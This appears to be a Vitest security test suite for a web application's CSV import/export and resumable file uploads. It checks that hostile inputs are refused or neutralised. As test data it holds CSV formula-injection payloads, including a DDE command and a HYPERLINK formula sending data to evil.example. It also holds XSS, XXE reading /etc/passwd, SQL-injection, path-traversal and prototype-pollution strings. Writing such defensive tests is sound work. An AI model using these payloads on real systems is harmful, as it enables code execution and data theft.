import { once } from 'node:events'
import { connect } from 'node:net'

import { parse } from 'csv-parse/sync'
import type { InjectOptions } from 'fastify'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'

import { type Client, type TestServer } from '../fixtures/server.ts'
import { metadata, upload } from '../fixtures/files/upload.ts'
import {
  chief,
  ended,
  everything,
  expectRefusal,
  isDiscreet,
  member,
  openOffice,
  rowsOf,
} from './cases/office.ts'

let server: TestServer
let boss: Client
let ann: Client
let address: URL

beforeAll(async () => {
  ;({ server, boss, ann } = await openOffice())
  address = new URL(await server.app.listen({ host: '127.0.0.1', port: 0 }))
  await server.backend.jobs.work()
})
afterAll(() => server.close())

const bearer = ({ token }: Client) => ({
  authorization: `Bearer ${token}`,
  'tus-resumable': '1.0.0',
})
const purpose = 'import:cases'

async function tus(client: Client, request: InjectOptions & { headers?: Record<string, string> }) {
  const answer = await server.app.inject({
    ...request,
    headers: { ...bearer(client), ...request.headers },
  })
  if (answer.statusCode >= 400 && request.method !== 'HEAD') {
    expect(answer.json().message).toEqual(expect.any(String))
    expect(isDiscreet(answer.body)).toBe(true)
  }
  expect(answer.statusCode).toBeLessThan(500)
  return answer
}

const create = (headers: Record<string, string> = {}, client = ann) =>
  tus(client, {
    method: 'POST',
    url: '/api/files',
    headers: {
      'upload-length': '10',
      'upload-metadata': metadata({ filename: 'a.csv', purpose }),
      ...headers,
    },
  })

const created = async (length = 10) =>
  String((await create({ 'upload-length': String(length) })).headers.location)

const patch = (url: string, payload: string, headers: Record<string, string> = {}) =>
  tus(ann, {
    method: 'PATCH',
    url,
    payload,
    headers: {
      'upload-offset': '0',
      'content-type': 'application/offset+octet-stream',
      ...headers,
    },
  })

const storedBytes = async (url: string) => {
  const id = url.slice(url.lastIndexOf('/') + 1)
  const [file] = await rowsOf(server, sql<any>`select stored from files where id = ${id}`)
  return file?.stored
}

/** Imports a file as a user and answers the import with its job and report. */
async function importFile(client: Client, content: Buffer | string, order: object): Promise<any> {
  const upload_id = await upload(server.app, client, content, { purpose })
  const { status, body } = await client.post('/office/case/import', { upload_id, ...order })
  expect([status, body]).toEqual([202, expect.anything()])
  const job = await ended(server, body.data.job_id)
  const [record] = await rowsOf(server, sql<any>`select * from imports where id = ${body.data.id}`)
  const answer = await client.get(`/office/case/import/${body.data.id}/report`)
  return { ...record, job, answer, report: answer.body }
}

async function exportFile(client: Client, body: object): Promise<any> {
  const answer = await client.post('/office/case/export', body)
  expect(answer.status).toBe(202)
  const job = await ended(server, answer.body.data.job_id)
  expect(job).toMatchObject({ state: 'finished' })
  return client.get(`/profile/job/${job.id}/download/result`)
}

describe('F1 no cell of a file runs in a spreadsheet:', () => {
  const formulas = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    ' =1+1',
    '"=1+1"',
    "'=1+1",
    '＝1+1',
    '＋1',
    '－cmd',
    '＠x',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    '+cmd|x',
    '%0A=1',
    '=1,"=2"',
    '=1;=2',
    "''=1",
    '\u00a0=1',
    '"" =1',
    '-',
    '+',
    '=',
    '@',
  ]
  const harmless = ['-5', '+5', '+447911123456', '1e5', '-1.5', 'a=b', '5-3', "it's", '#1', '12:30']

  test.each([',', ';', '\t', '|'])(
    'with %j between cells, and it comes back as it was',
    async (delimiter) => {
      const owner = await server.user(member)
      const texts = [...formulas, ...harmless]
      for (const text of texts) {
        const { status } = await owner.post('/office/case', {
          name: `n${text}`,
          note: text,
          owner: owner.id,
        })
        expect(status).toBe(201)
      }
      const file = await exportFile(owner, {
        columns: ['note', 'name'],
        sort: 'id',
        delimiter,
        bom: true,
      })
      const rows: string[][] = parse(file.body, { delimiter, bom: true, from: 2 })
      expect(rows).toHaveLength(texts.length)
      const runs = (cell: string) =>
        /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && !/^[+-]?\d[\d.e]*$/.test(cell)
      expect(rows.flat().filter(runs)).toEqual([])
      const notes = await rowsOf(
        server,
        sql<any>`select note from cases where owner = ${owner.id} order by id`,
      )
      const [{ name }] = (await rowsOf(
        server,
        sql<any>`select name from users where id = ${owner.id}`,
      )) as [any]
      const lines = file.body
        .split('\n')
        .slice(1)
        .filter(Boolean)
        .map((line: string) => `${line}${delimiter}"${name}"`)
      const done = await importFile(owner, `a${delimiter}b${delimiter}c\n${lines.join('\n')}\n`, {
        mapping: ['note', 'name', 'owner'],
        delimiter,
      })
      expect(done).toMatchObject({ created: texts.length, refused: 0 })
      const back = await rowsOf(
        server,
        sql<any>`
      select note from cases where owner = ${owner.id} order by id offset ${texts.length}`,
      )
      expect(back).toEqual(notes)
    },
  )

  test('not in the report of refused rows either', async () => {
    const lines = formulas.map((text) => `"${text.replaceAll('"', '""')}",nobody`)
    const { report } = await importFile(ann, `=name,owner\n${lines.join('\n')}\n`, {
      mapping: ['name', 'owner'],
    })
    for (const [cell] of parse(report) as string[][])
      expect(cell).toMatch(/^(?:'|[^\s"'=+\-@＝＋－＠])/)
  })
})

describe('F2 a strange file gets an answer in words:', () => {
  const half = `${'x'.repeat(59)}😀`

  test('a header and a name that are cut within a character', async () => {
    const done = await importFile(ann, `name,owner,${half}\nA,${half},x\n`, {
      mapping: ['name', 'owner', null],
    })
    expect(done).toMatchObject({ state: 'done', created: 0, refused: 1 })
    expect(done.job.state).toBe('finished_with_errors')
    expect(done.report).toContain('There is no')
  })

  const orders: [string, object][] = [
    ['a NUL between cells', { delimiter: '\0' }],
    ['half a character between cells', { delimiter: '\ud800' }],
    ['a line end between cells', { delimiter: '\n' }],
    ['a fox between cells', { delimiter: '🦊' }],
    ['a quote between cells', { delimiter: '"' }],
    ['a NUL for quotes', { quote: '\0' }],
    ['a fox for quotes', { quote: '🦊' }],
    ['a fox for escapes', { escape: '🦊' }],
    ['half a character for escapes', { escape: '\udc00' }],
    ['the same for all', { delimiter: ',', quote: ',', escape: ',' }],
    ['nothing for escapes', { escape: '' }],
    ['a number for quotes', { quote: 5 }],
    ['a list of delimiters', { delimiter: [',', ';'] }],
    ['a file of two billion columns', { mapping: { length: 2e9 } }],
    ['settings that are a prototype', { settings: { constructor: { prototype: { a: 1 } } } }],
    ['settings that are a list', { settings: [] }],
    ['no file', { upload_id: "'; drop table files; --" }],
  ]
  test.each(orders)('%s', async (_, more) => {
    const upload_id = await upload(server.app, ann, 'name,note\nA,b\n', { purpose })
    const reading = Object.fromEntries(
      Object.entries(more).filter(([key]) => !/mapping|settings/.test(key)),
    )
    for (const [path, body] of [
      ['preview', { upload_id, ...reading }],
      ['', { upload_id, mapping: ['name', null], settings: {}, ...more }],
    ] as const) {
      const answer = await ann.post(`/office/case/import/${path}`.replace(/\/$/, ''), body)
      expect(answer.status).toBeLessThan(500)
      if (answer.status >= 400) expectRefusal(answer, 400, 404, 409, 422)
      if (answer.status === 202) await ended(server, answer.body.data.job_id)
    }
  })

  const contents: [string, Buffer | string][] = [
    ['only commas', `${','.repeat(2_000)}\n`],
    ['only quotes', `${'"'.repeat(2_001)}\n`],
    ['an escape at the end', 'name,owner\n"a\\'],
    ['every byte there is', Buffer.from(Array.from({ length: 256 }, (_, n) => n))],
    ['UTF-16 with half characters', Buffer.from('\ufeffname\n\ud800\n\udc00x\n', 'utf16le')],
    ['an odd number of bytes of UTF-16', Buffer.from('\ufeffname\nA\n', 'utf16le').subarray(0, 13)],
    ['a mark and nothing else', '\ufeff'],
    ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
    ['a page', '<!doctype html><script>alert(1)</script>,\n<img src=x onerror=alert(1)>,\n'],
    ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>,\nx,\n'],
    ['entities', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>,\n&b;,\n'],
    ['a thousand equal headers', `${'name,'.repeat(999)}name\n${'x,'.repeat(999)}x\n`],
    ['lines of nothing', '\n'.repeat(100_000)],
    ['right-to-left marks', 'name,\u202eowner\n\u202eA,\u2066b\n'],
  ]
  test.each(contents)('%s', async (_, content) => {
    const before = await rowsOf(server, sql`select from cases`)
    const upload_id = await upload(server.app, ann, content, { purpose })
    const preview = await ann.post('/office/case/import/preview', { upload_id })
    if (preview.status !== 200) return expectRefusal(preview, 422)
    const mapping = preview.body.data.headers.map((__: string, n: number) =>
      n === 0 ? 'name' : null,
    )
    const answer = await ann.post('/office/case/import', { upload_id, mapping })
    // Every case needs an owner, whom these files do not name.
    expectRefusal(answer, 422)
    expect(await rowsOf(server, sql`select from cases`)).toHaveLength(before.length)
  })
})

describe('F4 no file, page or stored job holds what its reader may not see:', () => {
  const canary = {
    pin: 'CANARYPIN',
    door: 'CANARYDOOR-violet-92',
    key: 'CANARYKEY-x',
    phone: '+447911987654',
    plan: { inside: 'CANARYPLAN' },
  }
  const secrets =
    /CANARYPIN|CANARYDOOR|CANARYKEY|CANARYPLAN|7911987|argon2|v[12]\.[\w-]+\.|token_hash/

  test.each([
    ['a member', member, secrets],
    ['a viewer who exports', ['case.view', 'case.export', 'user.profile.job.view'], secrets],
    ['the chief', chief, /CANARYDOOR|CANARYKEY|argon2|v[12]\.[\w-]+\.|token_hash/],
  ])('%s', async (_, permissions, hidden) => {
    const reader = await server.user(permissions)
    await sql`delete from cases where name = 'Canary'`.execute(server.backend.database.sql)
    const { body } = await boss.post('/office/case', {
      name: 'Canary',
      owner: reader.id,
      ...canary,
    })
    expect(body.errors).toBeUndefined()
    const { id } = body.data
    const seen = [
      await reader.get(`/office/case/${id}`),
      await reader.get('/office/case/search?name=Canary'),
      await reader.post('/office/case/search', { name: 'Canary' }),
      await reader.put(`/office/case/${id}`, { note: 'x' }),
      await reader.post(`/office/case/${id}/hand`, { to: id, key: 'CANARYKEY-2' }),
      await reader.post('/office/case/bulk/update', { ids: [id], values: { key: 'CANARYKEY-3' } }),
      await reader.post('/office/case/bulk/hand', {
        ids: [id],
        values: { to: id, key: 'CANARYKEY-4' },
      }),
      await exportFile(reader, {}),
      await exportFile(reader, { columns: ['name', 'phone', 'owner', 'parent', 'related'] }),
      await reader.get('/openapi.json'),
      await reader.get('/profile'),
      await reader.get('/profile/sessions'),
      await reader.get('/profile/job/search'),
      await reader.get('/profile/import/search'),
    ].map((answer) => JSON.stringify(answer.body))
    for (const text of seen) expect(text).not.toMatch(hidden)
    if (permissions === chief) expect(seen.join()).toMatch(/CANARYPIN/)
  })

  test('and the audit log, the jobs and the files hold no password or secret at all', async () => {
    const kept = await Promise.all(
      ['audit_log', 'jobs', 'job_chunks', 'imports', 'import_failures'].map(async (name) =>
        JSON.stringify(await rowsOf(server, sql`select * from ${sql.table(name)}`)),
      ),
    )
    expect(kept.join()).toContain('Canary')
    for (const text of kept) expect(text).not.toMatch(/CANARYDOOR|CANARYKEY|argon2/)
    const chunks = await rowsOf(server, sql<any>`select data from file_chunks`)
    for (const { data } of chunks) expect(String(data)).not.toMatch(/CANARYDOOR|CANARYKEY|argon2/)
    expect(await everything(server)).not.toMatch(/CANARYDOOR|CANARYKEY/)
  })
})

test('F5 no header, body or setting reaches the prototype of anything', async () => {
  const poison = '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'
  const nested = `{"filter": ${poison}, "values": ${poison}, "settings": ${poison}, "plan": ${poison}, "name": "x"}`
  const plan = (text: string) => `{"name": "Plan", "owner": ${boss.id}, "plan": ${text}}`
  const bodies = [
    poison,
    nested,
    `[${poison}]`,
    plan(poison),
    plan('{"a": {"__proto__": {"polluted": 1}}}'),
    plan('{"constructor": {"prototype": {"polluted": 1}}}'),
  ]
  const urls = [
    '/office/case',
    '/office/case/search',
    '/office/case/export',
    '/office/case/import',
    '/office/case/bulk/update',
    '/office/case/1/hand',
    '/login',
    '/setup',
  ]
  for (const url of urls) {
    for (const payload of bodies) {
      const answer = await server.app.inject({
        method: 'POST',
        url: `/api${url}`,
        payload,
        remoteAddress: '198.51.100.5',
        headers: { ...bearer(boss), 'content-type': 'application/json' },
      })
      expect(answer.statusCode).toBeLessThan(500)
      expect(({} as any).polluted).toBeUndefined()
      expect(([] as any).polluted).toBeUndefined()
    }
  }
  for (const header of ['__proto__', 'Constructor', ' prototype ', '__PROTO__']) {
    const upload_id = await upload(server.app, ann, `${header},b\nx,y\n`, { purpose })
    expectRefusal(await ann.post('/office/case/import/preview', { upload_id }), 422)
  }
  for (const query of [
    '__proto__[polluted]=1',
    '__proto__.polluted=1',
    'constructor.prototype.polluted=1',
  ]) {
    expectRefusal(await ann.get(`/office/case/search?${query}`), 400)
  }
  expect(({} as any).polluted).toBeUndefined()
})

describe('F7 the name of a file is a label and nothing else:', () => {
  const names = [
    '../../etc/passwd.csv',
    '..\\..\\windows.csv',
    '/etc/passwd.csv',
    'C:\\x.csv',
    'CON.csv',
    'nul\0.csv',
    '.csv',
    '\u202evsc.exe.csv',
    'a\r\nSet-Cookie: x=1.csv',
    '"; drop table files; --.csv',
    '😀.csv',
    `${'x'.repeat(300)}.csv`,
    `${'😀'.repeat(150)}.csv`,
    '<img src=x onerror=alert(1)>.csv',
    '%00.csv',
    '\ud800.csv',
  ]
  test.each(names)('%j', async (filename) => {
    const answer = await create({
      'upload-metadata': metadata({ filename, purpose, filetype: 'text/html\0' }),
    })
    expect(answer.statusCode).toBe(201)
    expect(answer.headers.location).toMatch(/^\/api\/files\/[0-9a-f-]{36}$/)
    expect(answer.headers).not.toHaveProperty('set-cookie')
    const url = String(answer.headers.location)
    await patch(url, 'name\nabcd\n')
    const id = url.slice(url.lastIndexOf('/') + 1)
    const [file] = await rowsOf(server, sql<any>`select name from files where id = ${id}`)
    expect(file.name).not.toMatch(/[\0\r\n\u202e]/)
    expect(file.name.length).toBeLessThanOrEqual(190)
    await tus(ann, { method: 'DELETE', url })
  })

  test.each([
    'a.html',
    'a.svg',
    'a.xml',
    'a.exe',
    'a.csv.html',
    'a.csv\0.html',
    'a',
    'csv',
    'a.csv ',
    'a.csv/',
    'a.xlsm',
    'a.xls',
  ])('%j is not taken in', async (filename) => {
    const answer = await create({ 'upload-metadata': metadata({ filename, purpose }) })
    expect(answer.statusCode).toBe(422)
  })
})

test('F9 four thousand refused rows are counted, kept within bounds, and can be read again', async () => {
  const wide = 'x'.repeat(200)
  const done = await importFile(ann, `name,owner\n${`${wide},Nobody\n`.repeat(4_000)}`, {
    mapping: ['name', 'owner'],
  })
  expect(done).toMatchObject({ state: 'done', total: 4_000, created: 0, refused: 4_000 })
  expect(done.job).toMatchObject({ processed: 4_000, failed: 4_000, pending: 0, progress: 100 })
  const [kept] = await rowsOf(
    server,
    sql<any>`
    select count(*)::int as count, max(length(reason))::int as longest from import_failures
    where import_id = ${done.id}`,
  )
  expect(kept.count).toBe(4_000)
  expect(kept.longest).toBeLessThan(1_000)
  expect(done.report.split('\n')).toHaveLength(4_002)
}, 60_000)

describe('C2 what was uploaded is never shown to a browser:', () => {
  test('there is no way to read an upload back', async () => {
    const id = await upload(server.app, ann, '<script>alert(1)</script>\n', { purpose })
    for (const url of [
      `/api/files/${id}`,
      `/files/${id}`,
      `/api/files/${id}.html`,
      `/api/files/${id}/content`,
    ]) {
      const answer = await server.app.inject({ url, headers: bearer(ann) })
      expect(answer.body).not.toContain('alert')
      expect(String(answer.headers['content-type'])).not.toContain('csv')
      if (url.startsWith('/api')) expect(answer.statusCode).toBe(404)
    }
  })

  test('the report of an import is a file to save', async () => {
    const { answer } = await importFile(ann, 'name,owner\n<script>alert(1)</script>,nobody\n', {
      mapping: ['name', 'owner'],
    })
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': expect.stringMatching(/^attachment; /),
      'x-content-type-options': 'nosniff',
      'cache-control': expect.stringContaining('no-store'),
    })
  })
})

describe('G2 and G5 an upload is what the session says, whatever its metadata say:', () => {
  const purposes = [
    'import:users',
    'import:contacts',
    'import:nothing',
    'import:__proto__',
    'import:',
    'import',
    'export',
    'import text',
    'import:cases ',
    ' import:cases',
    'IMPORT:cases',
    'import:cases\0',
    'import:cases,export',
    '*',
  ]
  test.each(purposes)('the purpose %j is refused', async (other) => {
    const answer = await create({
      'upload-metadata': metadata({ filename: 'a.csv', purpose: other }),
    })
    expect(answer.statusCode).toBe(403)
  })

  const base64 = (text: string) => Buffer.from(text).toString('base64')
  const junk: [string, string][] = [
    ['nothing', ''],
    ['no value', 'filename,purpose'],
    [
      'a key twice',
      `filename ${base64('a.csv')},purpose ${base64(purpose)},purpose ${base64('import:users')}`,
    ],
    ['no base64', 'filename !!!!,purpose ????'],
    ['commas', ',,,,'],
    ['spaces', '   '],
    ['three parts', `filename ${base64('a.csv')} x,purpose ${base64(purpose)}`],
    ['a constructor', `constructor ${base64('x')},filename ${base64('a.csv')}`],
    ['a prototype', `__proto__ ${base64('x')},filename ${base64('a.csv')}`],
    ['too much', `filename ${base64('a.csv')},purpose ${base64(purpose)},x ${'A'.repeat(5_000)}`],
  ]
  test.each(junk)('%s', async (_, header) => {
    expect([400, 403, 422]).toContain((await create({ 'upload-metadata': header })).statusCode)
  })

  test('an owner in the metadata is nobody', async () => {
    const header = metadata({
      filename: 'a.csv',
      purpose,
      owner: String(boss.id),
      user_id: String(boss.id),
      id: 'x',
      stored: '10',
      size: '1',
      expires_at: '2999-01-01',
      sha256: 'x',
    })
    const url = String((await create({ 'upload-metadata': header })).headers.location)
    const [file] = await rowsOf(
      server,
      sql<any>`
      select user_id, stored, size, metadata from files where id = ${url.slice(-36)}`,
    )
    expect(file).toEqual({ user_id: ann.id, stored: 0, size: 10, metadata: {} })
    await tus(ann, { method: 'DELETE', url })
  })
})

describe('G3 the parts of an upload do not lie about themselves:', () => {
  const lengths = [
    '-1',
    '1.5',
    '1e3',
    '0x10',
    'NaN',
    'Infinity',
    '',
    ' ',
    '10, 20',
    '99999999999999999999',
    '209715201',
  ]
  test.each(lengths)('a length of %j is refused', async (length) => {
    expect([400, 413]).toContain((await create({ 'upload-length': length })).statusCode)
  })

  const offsets = ['-1', '1', 'abc', '', '0x0', '1e1', '0.5', '9007199254740993', 'NaN', '0, 5']
  test.each(offsets)('an offset of %j is refused', async (offset) => {
    const url = await created()
    const { statusCode } = await patch(url, '0123456789', { 'upload-offset': offset })
    expect([400, 403, 409]).toContain(statusCode)
    expect(await storedBytes(url)).toBe(0)
    await tus(ann, { method: 'DELETE', url })
  })

  test('a part of nothing moves nothing', async () => {
    const url = await created()
    for (let n = 0; n < 3; n += 1) {
      const answer = await patch(url, '', { 'content-length': '0' })
      expect([answer.statusCode, answer.headers['upload-offset']]).toEqual([204, '0'])
    }
    expect((await patch(url, '0123456789')).statusCode).toBe(204)
    expect((await patch(url, 'x', { 'upload-offset': '10' })).statusCode).toBeGreaterThanOrEqual(
      400,
    )
    expect(await storedBytes(url)).toBe(10)
  })

  test('a file of no bytes is complete and holds nothing', async () => {
    const url = await created(0)
    const order = { upload_id: url.slice(-36), mapping: ['name'] }
    expectRefusal(await ann.post('/office/case/import', order), 422)
    expect((await patch(url, 'x')).statusCode).toBe(413)
  })

  const extras: Record<string, string>[] = [
    { 'upload-concat': 'partial' },
    { 'upload-concat': `final;/api/files/00000000-0000-4000-8000-000000000000` },
    { 'upload-defer-length': '1' },
    { 'upload-checksum': 'sha1 AAAA' },
    { 'tus-resumable': '0.0.1' },
    { 'transfer-encoding': 'chunked' },
  ]
  test.each(extras)('%o brings nobody anywhere', async (headers) => {
    const answer = await create(headers)
    expect([201, 400, 412, 415]).toContain(answer.statusCode)
    if (answer.statusCode !== 201) return
    const [file] = await rowsOf(
      server,
      sql<any>`
      select size, stored from files where id = ${String(answer.headers.location).slice(-36)}`,
    )
    expect(file).toEqual({ size: 10, stored: 0 })
  })

  test('an upload that is not complete cannot be imported', async () => {
    const url = await created()
    await patch(url, '01234')
    expectRefusal(
      await ann.post('/office/case/import', { upload_id: url.slice(-36), mapping: ['name'] }),
      422,
    )
  })

  test('a connection that breaks in the middle keeps what came, and no more', async () => {
    const url = await created(1_000_000)
    const socket = connect(Number(address.port), address.hostname)
    await once(socket, 'connect')
    const head = [
      `PATCH ${url} HTTP/1.1`,
      `Host: ${address.host}`,
      `Authorization: Bearer ${ann.token}`,
      'Tus-Resumable: 1.0.0',
      'Upload-Offset: 0',
      'Content-Type: application/offset+octet-stream',
      'Content-Length: 1000000',
    ]
    socket.write(`${head.join('\r\n')}\r\n\r\n${'x'.repeat(600_000)}`)
    await expect.poll(() => storedBytes(url)).toBeGreaterThan(0)
    socket.destroy()
    const goOn = async () => {
      const [file] = await rowsOf(
        server,
        sql<any>`
        select stored::int, (select sum(length(data))::int from file_chunks where file_id = id) as bytes
        from files where id = ${url.slice(-36)}`,
      )
      expect(file.bytes).toBe(file.stored)
      expect(file.stored).toBeLessThanOrEqual(600_000)
      const headers = { 'upload-offset': String(file.stored) }
      return patch(url, 'y'.repeat(1_000_000 - file.stored), headers)
    }
    // While what came before is still being written, there is another place to go on from.
    await expect.poll(async () => (await goOn()).headers['upload-offset']).toBe('1000000')
  })
})

test('G4 abandoned uploads take no room for long', async () => {
  const hoarder = await server.user(member)
  for (let n = 0; n < 20; n += 1) expect((await create({}, hoarder)).statusCode).toBe(201)
  expect((await create({}, hoarder)).statusCode).toBe(429)
  await sql`update files set expires_at = now() - interval '1 second' where user_id = ${hoarder.id}`.execute(
    server.backend.database.sql,
  )
  expect((await create({}, hoarder)).statusCode).toBe(201)
  await server.backend.jobs.upkeep()
  expect(await rowsOf(server, sql`select from files where user_id = ${hoarder.id}`)).toHaveLength(1)
})
